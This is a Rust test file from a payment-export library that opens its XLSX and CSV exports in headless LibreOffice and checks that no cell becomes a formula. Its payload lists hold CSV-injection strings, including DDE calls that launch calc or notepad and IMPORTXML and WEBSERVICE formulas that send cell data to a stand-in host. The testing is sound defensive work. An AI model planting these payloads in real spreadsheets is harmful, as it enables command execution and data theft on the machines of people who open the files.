//! Both forms, opened by LibreOffice as a shop opens them: what was written is there, each cell of its type, and nothing is run.
#![cfg(target_os = "linux")]
#![expect(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test that cannot go on ends where it is; the lints do not know its helpers by an attribute"
)]

use std::fs::{self, File};
use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::Command;

use comptoir_core::export::ExportFormat;
use comptoir_core::ids::{PaymentId, SaleId};
use comptoir_core::money::{Amount, Currency};
use comptoir_core::network::Network;
use comptoir_core::order::{Environment, GatewayKind, Method, Order};
use comptoir_core::payment::Payment;
use comptoir_core::reference::{Epoch, IdentifierSecret, MerchantReference};
use comptoir_core::state::State;
use comptoir_export::{Export, Row, Tongue};
use comptoir_words::{Lang, Words};
use jiff::Timestamp;
use jiff::tz::{self, TimeZone};
use tempfile::TempDir;

/// Longer than LibreOffice takes on a busy machine; what takes longer has failed.
const BOUND_SECONDS: &str = "180";

const BEGINNINGS: [&str; 20] = [
    "=", "+", "-", "@", "\t=", "\r=", " =", "＝", "＋", "－", "＠", "\"=", "'=", ";=", ",=", ",\"=", "\n=", "\u{a0}=", "x;=",
    "x,\"-",
];

const BODIES: [&str; 10] = [
    "1+1",
    "SUM(A1:A9)",
    "HYPERLINK(\"http://exemple.invalid/\",\"clic\")",
    "cmd|' /C calc'!A0",
    "IMPORTXML(CONCAT(\"http://exemple.invalid/\",A1),\"//a\")",
    "WEBSERVICE(\"http://exemple.invalid/\")",
    "DDE(\"soffice\",\"x\",\"y\")",
    "2+5+cmd|' /C notepad'!A0",
    "10%",
    "A1;=B1",
];

/// Two hundred texts that a spreadsheet could run.
fn payloads() -> Vec<String> {
    BEGINNINGS.iter().flat_map(|beginning| BODIES.iter().map(move |body| format!("{beginning}{body}"))).collect()
}

fn payment(place: u64, note: &str, minor: i64, currency: Currency) -> Payment {
    let at: Timestamp = "2026-11-05T23:05:09Z".parse().unwrap();
    let order = Order {
        payment_id: PaymentId::minted(at, &[1; 10]),
        sale_id: SaleId::minted(at, &[2; 10]),
        reference: MerchantReference::derived(&IdentifierSecret::new([7; 32]), Epoch::FIRST, place),
        gateway: GatewayKind::PaygateGlobal,
        account: "boutique".to_owned(),
        key_fingerprint: "ABC234".to_owned(),
        method: Method::Push,
        network: Some(Network::TgFlooz),
        payer: Some("****3456".to_owned()),
        amount: Amount::new(minor, currency).unwrap(),
        environment: Environment::Training,
        note: Some(note.to_owned()),
        retry_of: None,
        double_accepted: false,
        cashier: None,
        created_at: at,
    };
    let operator_reference = Some("0070348726".to_owned());
    Payment { state: State::Paid, operator_reference, ..Payment::recorded(order) }
}

/// The payloads as notes, and two sums, in this form.
fn written(folder: &Path, format: ExportFormat) -> PathBuf {
    let path = folder.join(format!("paiements.{}", format.code()));
    // An hour east of Greenwich the payment is of the next day.
    let zone = TimeZone::fixed(tz::offset(1));
    let tongue = Tongue { words: Words::of(Lang::Fr), zone, zone_name: "Africa/Porto-Novo".to_owned() };
    let mut export = Export::begun(format, File::create(&path).unwrap(), folder, tongue).unwrap();
    for (place, note) in (1..).zip(payloads()) {
        let (minor, currency) = if place % 2 == 0 { (12_500, Currency::Xof) } else { (123_456, Currency::Usd) };
        let payment = payment(place, &note, minor, currency);
        let receipt_number = Some("ENTRAINEMENT-COMPTOIR-1-2026-000123");
        export.add(&Row { payment: &payment, receipt_number, papers: 2, refunded_minor: 500 }).unwrap();
    }
    export.finish().unwrap().sync_all().unwrap();
    path
}

/// The document that LibreOffice makes of the file, as flat XML.
fn opened(file: &Path, options: &[&str]) -> String {
    let own = TempDir::new().unwrap();
    let told = Command::new("timeout")
        .args([BOUND_SECONDS, "soffice", "--headless", "--norestore"])
        .arg(format!("-env:UserInstallation=file://{}/profile", own.path().display()))
        .args(options)
        .args(["--convert-to", "fods", "--outdir"])
        .arg(own.path())
        .arg(file)
        .env("HOME", own.path())
        .env("TZ", "UTC")
        .output()
        .expect("LibreOffice is there");
    let document = own.path().join(file.with_extension("fods").file_name().unwrap());
    fs::read_to_string(document).unwrap_or_else(|error| panic!("{error}: {told:?}"))
}

/// How text is read: in UTF-8, and formulas are run where there are any.
fn parted_at(separator: &str) -> String {
    format!("--infilter=CSV:{separator},34,76,1,,0,false,true,false,false,false,0,true")
}

fn escaped(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;").replace('\'', "&apos;")
}

#[test]
fn a_spreadsheet_has_typed_cells_and_no_formula() {
    let folder = TempDir::new().unwrap();
    let file = written(folder.path(), ExportFormat::Xlsx);
    let mut parts = zip::ZipArchive::new(File::open(&file).unwrap()).unwrap();
    let mut sheet = String::new();
    parts.by_name("xl/worksheets/sheet1.xml").unwrap().read_to_string(&mut sheet).unwrap();
    assert_eq!((sheet.matches("<row ").count(), sheet.matches("<f>").count() + sheet.matches("<f ").count()), (201, 0));
    assert!(sheet.contains("<autoFilter ref=\"A1:U201\"/>") && sheet.contains("state=\"frozen\""), "no head");

    let document = opened(&file, &[]);
    assert_eq!(document.matches("table:formula").count(), 0);
    let times = |what: &str| document.matches(what).count();
    assert_eq!(times("office:date-value=\"2026-11-06\""), 200, "the day is the shop's");
    assert_eq!(times("office:time-value=\"PT00H05M09S\""), 200);
    // What was asked for and what came in stand side by side, and are told once.
    assert_eq!((times("office:value=\"12500\""), times("office:value=\"1234.56\"")), (100, 100));
    assert_eq!(times("<text:p>0070348726</text:p>"), 200, "a number that is a name keeps its zeros");
    assert!(document.contains("<text:p>Heure (Africa/Porto-Novo)</text:p>"));
    let whole = payloads().into_iter().filter(|text| !text.contains(['\t', '\r', '\n', ' ', '\u{a0}']));
    let lost: Vec<_> = whole.filter(|text| !document.contains(&format!("<text:p>{}</text:p>", escaped(text)))).collect();
    assert_eq!(lost, [""; 0]);
}

#[test]
fn text_with_semicolons_runs_nothing_however_its_cells_are_parted() {
    let folder = TempDir::new().unwrap();
    let file = written(folder.path(), ExportFormat::Csv);
    let text = fs::read_to_string(&file).unwrap();
    assert!(text.starts_with("\u{feff}\"Date\";\"Heure (Africa/Porto-Novo)\";\"Reçu\""), "{text}");
    assert!(text.contains("\r\n2026-11-06;00:05:09;\"ENTRAINEMENT-COMPTOIR-1-2026-000123\";"), "{text}");
    assert!(text.contains(";12500;12500;500;\"XOF\";") && text.contains(";1234,56;1234,56;5,00;\"USD\";"), "{text}");
    let runs = "table:formula";
    let bare = folder.path().join("formule.csv");
    fs::write(&bare, "a;=1+1\r\n").unwrap();
    assert_eq!(opened(&bare, &[&parted_at("59")]).matches(runs).count(), 1, "the check is blind");
    for separator in ["59", "44", "9"] {
        let document = opened(&file, &[&parted_at(separator)]);
        assert_eq!(document.matches(runs).count(), 0, "parted at {separator}");
        assert!(document.contains("Moov Money (Flooz)"), "parted at {separator}");
        if separator == "59" {
            assert_eq!(document.matches("office:value=\"12500\"").count(), 100, "sums are numbers");
        }
    }
}
